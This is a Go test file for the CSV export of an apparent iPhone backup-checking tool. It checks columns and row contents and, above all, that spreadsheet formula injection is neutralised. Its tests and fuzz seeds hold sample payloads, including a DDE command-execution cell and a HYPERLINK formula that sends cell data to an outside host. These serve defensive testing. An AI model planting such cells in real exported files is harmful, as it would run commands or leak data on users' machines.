package format

import (
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/backupdoctor/backupdoctor/checks"
	"github.com/backupdoctor/backupdoctor/device"
	"github.com/backupdoctor/backupdoctor/report"
	"github.com/backupdoctor/backupdoctor/testdata/reporttest"
	"github.com/google/go-cmp/cmp"
)

// labelled returns a device with everything its owners know about it, examined in two tries,
// with one suppressed finding.
func labelled(e report.Examined, slot string, asset ...device.Field) report.Examined {
	e.Snapshot.Device.Serial = device.Known("F2L" + slot)
	e.Snapshot.Labels = device.Labels{Location: 0x14120000, Slot: slot, Asset: asset}
	e.Snapshot.Live = &device.Live{Retried: device.Gap{Reason: device.Timeout}}
	e.Silenced = []checks.Silenced{{
		Finding: checks.Finding{Check: reporttest.Room, Subject: "the plan", Status: checks.Warning, Summary: "Little room is left."},
		Because: "ordered on Monday", Until: reporttest.SampleTime.AddDate(0, 1, 0),
	}}
	return e
}

// tableRows parses a CSV file into rows keyed by header.
func tableRows(t testing.TB, text string) []map[string]string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(text)).ReadAll() // requires all rows to have the same length
	if err != nil {
		t.Fatalf("%v in\n%s", err, text)
	}
	var rows []map[string]string
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, head := range records[0] {
			row[head] = record[i]
		}
		if len(row) != len(record) {
			t.Fatalf("two columns have one head: %q", records[0])
		}
		rows = append(rows, row)
	}
	return rows
}

func csvOf(r report.Report) string {
	var out strings.Builder
	if err := WriteCSV(&out, r); err != nil {
		return err.Error()
	}
	return out.String()
}

func csvFindingsOf(r report.Report) string {
	var out strings.Builder
	if err := WriteCSVFindings(&out, r, Options{All: true}); err != nil {
		return err.Error()
	}
	return out.String()
}

// columnsOf keeps only the given columns.
func columnsOf(row map[string]string, heads ...string) map[string]string {
	kept := map[string]string{}
	for _, head := range heads {
		kept[head] = row[head]
	}
	return kept
}

func TestCSVTellsADeviceInOneRow(t *testing.T) {
	run := reporttest.Run(labelled(reporttest.Failing("Léa’s iPhone"), "7"), reporttest.Well("Noor’s iPhone"))
	run.ID = "5f0c1f2e-8a64-4a55-9d7e-0f7f3f1f9c11"
	r := report.New(run)
	r.Devices[0].LastBackup = r.TakenAt.AddDate(0, 0, -23).Add(-time.Hour)
	r.Devices[0].NoLastBackup = ""
	r.Devices[0].Copy = &report.Copy{Verdict: "proved", Folder: "/copies/a"}
	rows := tableRows(t, csvOf(r))
	want := map[string]string{
		"udid": "00008110-000514AE0C22801E", "serial": "F2L7", "slot": "7", "location": "0x14120000", "name": "Léa’s iPhone",
		"modelName": "iPhone 13 mini", "productType": "iPhone14,4", "productVersion": "18.7.2", "buildVersion": "22H124",
		"verdict": "failing", "headline": "iCloud Backup is off; the last good backup is 23 days old.",
		"reason": "", "retried": "timeout", "lastBackup": "2026-10-28T07:30:00Z", "daysSinceBackup": "23", "noLastBackup": "",
		"causes": "iCloud Backup off; may be: not on Wi-Fi", "firstRemedy": "Join a Wi-Fi network",
		"problems": "2", "warnings": "1", "unknown": "1", "questions": "1", "ok": "1", "suppressed": "1",
		"takenAt": "2026-11-20T08:30:00Z", "run": "5f0c1f2e-8a64-4a55-9d7e-0f7f3f1f9c11", "redacted": "false", "partial": "false",
		"copyVerdict": "proved", "copyFolder": "/copies/a",
	}
	for head, cell := range want {
		if rows[0][head] != cell {
			t.Errorf("%s is %q, want %q", head, rows[0][head], cell)
		}
	}
	if len(rows) != 2 || rows[1]["name"] != "Noor’s iPhone" || rows[1]["copyVerdict"]+rows[1]["copyFolder"] != "" {
		t.Errorf("%d rows, the second %v", len(rows), rows[1])
	}
}

// Unknown values stay empty: a spreadsheet would count a 0.
func TestCSVLeavesTheUnknownEmpty(t *testing.T) {
	row := tableRows(t, csvOf(report.New(reporttest.Run(reporttest.Unexamined("x")))))[0]
	want := map[string]string{"verdict": "not-examined", "reason": "trust-pending", "lastBackup": "", "daysSinceBackup": "", "noLastBackup": "not-asked"}
	if diff := cmp.Diff(want, columnsOf(row, "verdict", "reason", "lastBackup", "daysSinceBackup", "noLastBackup")); diff != "" {
		t.Error(diff)
	}
}

func TestCSVAppendsTheInventory(t *testing.T) {
	rows := tableRows(t, csvOf(report.New(reporttest.Run(
		labelled(reporttest.Failing("a"), "1", device.Field{Name: "Asset tag", Value: "-5"}, device.Field{Name: "Name", Value: "Ward 3"}),
		labelled(reporttest.Well("b"), "2", device.Field{Name: "Room", Value: "112"}, device.Field{Name: "asset tag", Value: "+49 30 1"}, device.Field{Name: "Room", Value: "113"}, device.Field{Name: "\u200b", Value: "x"}),
	))))
	heads := []string{"name", "Asset tag", "asset.Name", "Room", "asset.asset tag", "asset."}
	for i, want := range []map[string]string{
		{"name": "a", "Asset tag": "-5", "asset.Name": "Ward 3", "Room": "", "asset.asset tag": "", "asset.": ""},
		{"name": "b", "Asset tag": "", "asset.Name": "", "Room": "112; 113", "asset.asset tag": "'+49 30 1", "asset.": "x"},
	} {
		if diff := cmp.Diff(want, columnsOf(rows[i], heads...)); diff != "" {
			t.Error(diff)
		}
	}
	header, _, _ := strings.Cut(csvOf(report.New(reporttest.Run(labelled(reporttest.Well("b"), "2", device.Field{Name: "Zone"}, device.Field{Name: "Room"})))), "\n")
	if !strings.HasSuffix(header, ",partial,connection,backupStatements,expected,expectedSince,repair,by,endedAt,copyVerdict,copyFolder,Zone,Room") {
		t.Errorf("the inventory does not end the header in its order: %s", header)
	}
}

func TestCSVBoundsTheInventory(t *testing.T) {
	var asset []device.Field
	for i := range 2 * maxAssetColumns {
		asset = append(asset, device.Field{Name: fmt.Sprintf("column %d", i), Value: "x"})
	}
	row := tableRows(t, csvOf(report.New(reporttest.Run(labelled(reporttest.Well("a"), "1", asset...)))))[0]
	if len(row) != len(deviceColumns)+maxAssetColumns {
		t.Errorf("%d columns", len(row))
	}
}

func TestCSVFindingsKeepTheOrderOfTheReport(t *testing.T) {
	r := report.New(reporttest.Run(labelled(reporttest.Failing("Léa’s iPhone"), "7")))
	heads := []string{"slot", "check", "status", "subject", "explainedBy", "reason", "evidence", "remedies", "suppressed", "because", "until"}
	var got [][]string
	for _, row := range tableRows(t, csvFindingsOf(r)) {
		var line []string
		for _, head := range heads {
			line = append(line, row[head])
		}
		got = append(got, line)
	}
	want := [][]string{
		{"7", "backup-turned-off", "problem", "", "", "", "iCloud Backup switch: off (expected on)", "Switch iCloud Backup on", "false", "", ""},
		{"7", "backup-stale", "problem", "", "backup-turned-off", "", "", "Back up now", "false", "", ""},
		{"7", "wifi-missing", "warning", "", "", "", "", "Join a Wi-Fi network", "false", "", ""},
		{"7", "not-trusted", "unknown", "", "", "refused", "", "", "false", "", ""},
		{"7", "icloud-storage-full", "ask", "", "", "", "", "", "false", "", ""},
		{"7", "not-trusted", "ok", "", "", "", "", "", "false", "", ""},
		{"7", "icloud-storage-full", "warning", "the plan", "", "", "", "", "true", "ordered on Monday", "2026-12-20T08:30:00Z"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// A file without rows still has its header, so that scripts find the columns.
func TestCSVWithoutADeviceIsItsHeader(t *testing.T) {
	r := report.New(report.Run{Gaps: []device.Gap{{Reason: device.Unreachable}}})
	for _, text := range []string{csvOf(r), csvFindingsOf(r)} {
		if strings.Count(text, "\n") != 1 || !strings.HasPrefix(text, "udid,serial,slot,") {
			t.Errorf("%q", text)
		}
	}
}

// A partial run says so on every row, because the file may be all that is left of it.
func TestCSVTellsThatARunIsPartialOrRedacted(t *testing.T) {
	run := reporttest.Run(reporttest.Well("iPhone 1"))
	run.Redacted, run.Gaps = true, []device.Gap{{Reason: device.Interrupted}}
	devices, findings := tableRows(t, csvOf(report.New(run))), tableRows(t, csvFindingsOf(report.New(run)))
	if got := devices[0]; got["partial"] != "true" || got["redacted"] != "true" {
		t.Errorf("partial %s, redacted %s", got["partial"], got["redacted"])
	}
	if got := findings[0]["partial"]; got != "true" {
		t.Errorf("a finding is partial: %s", got)
	}
}

func TestHarmless(t *testing.T) {
	for text, want := range map[string]string{
		"Léa’s iPhone":         "Léa’s iPhone",
		"=1+1":                 "'=1+1",
		"@SUM(A1)":             "'@SUM(A1)",
		"+cmd|' /C calc'!A0":   "'+cmd|' /C calc'!A0",
		"-2+3":                 "'-2+3",
		"＝1":                   "'＝1",
		"a;=1+1":               "a;'=1+1",
		`a; "=1+1"`:            `a; "'=1+1"`,
		"a = b - c":            "a = b - c",
		"2026-11-20T08:30:00Z": "2026-11-20T08:30:00Z",
	} {
		got := harmless(text)
		if got != want {
			t.Errorf("harmless(%q) = %q, want %q", text, got, want)
		}
		if twice := harmless(got); twice != got {
			t.Errorf("made harmless again, %q becomes %q", got, twice)
		}
	}
}

func TestCSVCellsAreCleanAndNumbersStay(t *testing.T) {
	for text, want := range map[string]string{
		"\t\u200b=1+1":             "'=1+1",
		"line\r\n=1":               "line =1",
		"\x1b[31mred\x1b[0m\u202e": "[31mred[0m",
		"-5":                       "-5",
		"+3.25":                    "+3.25",
		"-1,000.50":                "-1,000.50",
		"-5 %":                     "'-5 %",
	} {
		named := reporttest.Well(text)
		named.Snapshot.Device.UDID = text
		row := tableRows(t, csvOf(report.New(reporttest.Run(named))))[0]
		if row["name"] != want {
			t.Errorf("%q in a cell is %q, want %q", text, row["name"], want)
		}
		if strings.IndexByte("+-", row["udid"][0]) >= 0 {
			t.Errorf("%q begins a line: %q", text, row["udid"])
		}
	}
}

// beginsFormula implements OWASP's rule for cells, independently of the code under test.
func beginsFormula(cell string) bool {
	if cell == "" || signedNumber.MatchString(cell) {
		return false
	}
	first := []rune(cell)[0]
	return slices.Contains([]rune{'=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'}, first)
}

// FuzzCSV parses the file with commas, and with semicolons as a spreadsheet does where the
// comma is the decimal separator.
func FuzzCSV(f *testing.F) {
	f.Add("=HYPERLINK(\"http://example.com/\"&A1)", "a\",\"=1+1\r\n=2")
	f.Add("x;\"=1+1", "'=1;+1; -1;\t@a")
	f.Add("\u200b\ufeff-1e5", "\xff;\"\";=\x00")
	f.Fuzz(func(t *testing.T, name, text string) {
		examined := labelled(reporttest.Failing(name), text, device.Field{Name: text, Value: name}, device.Field{Name: name, Value: text})
		examined.Diagnosis.Headline = text
		examined.Diagnosis.Causes[0].Evidence = []checks.Evidence{{Key: name, Value: text}, {Key: text, Value: name}}
		examined.Silenced[0].Because = text
		examined.Snapshot.Device.UDID = name
		r := report.New(reporttest.Run(examined, reporttest.Well(text)))
		for _, file := range []string{csvOf(r), csvFindingsOf(r)} {
			rows := tableRows(t, file)
			for _, row := range rows {
				for head, cell := range row {
					if beginsFormula(head) || beginsFormula(cell) || strings.ContainsFunc(head+cell, report.Hidden) {
						t.Errorf("%q: %q", head, cell)
					}
				}
			}
			if lines := strings.Count(file, "\n"); lines != len(rows)+1 {
				t.Errorf("%d rows on %d lines", len(rows), lines)
			}
			inGermany := csv.NewReader(strings.NewReader(file))
			inGermany.Comma, inGermany.LazyQuotes, inGermany.FieldsPerRecord = ';', true, -1
			records, err := inGermany.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, cell := range slices.Concat(records...) {
				if cell = strings.TrimLeft(cell, " \"\n"); beginsFormula(cell) {
					t.Errorf("behind a semicolon: %q", cell)
				}
			}
		}
	})
}

func ExampleWriteCSV() {
	file := csvOf(report.New(reporttest.Run(reporttest.Well("Noor's iPhone"))))
	for line := range strings.Lines(file) {
		fmt.Println(strings.Join(strings.Split(line, ",")[:5], ","))
	}
	// Output:
	// udid,serial,slot,location,name
	// 00008120-000A1C2E3F4A5B6C,,,,Noor's iPhone
}
